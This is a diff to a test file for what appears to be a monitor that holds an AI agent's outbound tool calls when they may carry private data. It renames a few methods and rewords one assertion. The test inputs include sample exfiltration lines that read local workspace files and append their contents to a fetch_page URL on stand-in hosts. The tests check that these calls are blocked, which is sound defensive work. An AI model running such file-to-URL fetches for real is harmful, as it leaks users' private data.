@@ -40,7 +40,7 @@ async def asked(core, session, code, state=""):
     person = Person(core, *[False] * 20)
     started = core.run_manager.submit(code, session, state=state)
     async with asyncio.timeout(60):
-        run = await core.run_manager.finished(started.id)
+        run = await core.run_manager.wait_until_finished(started.id)
     person.leave()
     stop()
     return run, held_calls
@@ -65,7 +65,7 @@ async def test_what_an_earlier_program_read_is_held_on_its_way_out_in_a_later_on
         person = Person(demo)
         person.decide(first)
         async with asyncio.timeout(60):
-            await demo.run_manager.finished(first.id)
+            await demo.run_manager.wait_until_finished(first.id)
         person.leave()
     value = "k" if state else "open('workspace/k.txt').read()"
     run, held_calls = await asked(demo, agent, f"{FETCH}await fetch_page(url='https://m.example/' + {value})", state)
@@ -74,7 +74,9 @@ async def test_what_an_earlier_program_read_is_held_on_its_way_out_in_a_later_on
     else:
         assert run.verdict.risk is Risk.LOW, "the text alone tells nothing"
         assert [held_call.tool for held_call in held_calls] == ["fetch_page"]
-        assert held_calls[0].why == ("Its url may be made of private data that was read before, and reaches outside.",)
+        assert held_calls[0].why == (
+            "The argument url may be derived from private data read earlier, and this call can send it outside.",
+        )
         assert run.state is RunState.FAILED
         assert fetched(demo) == []
 
@@ -110,9 +112,9 @@ async def test_a_session_that_read_nothing_private_follows_a_file(demo):
 async def test_another_connection_of_the_same_name_has_read_what_the_first_one_read(demo):
     await ran(demo, demo.services.sessions.open("agent"), "1")
     first, second = demo.services.sessions.open("agent"), demo.services.sessions.open("agent")
-    demo.services.sessions.named(first, "robot")
+    demo.services.sessions.set_name(first, "robot")
     await ran(demo, first, READ + "print(len(rows))")
-    demo.services.sessions.named(second, "robot")
+    demo.services.sessions.set_name(second, "robot")
     run, held_calls = await asked(
         demo, second, FETCH + "import time\nawait fetch_page(url='https://m/' + open('workspace/x').read())"
     )
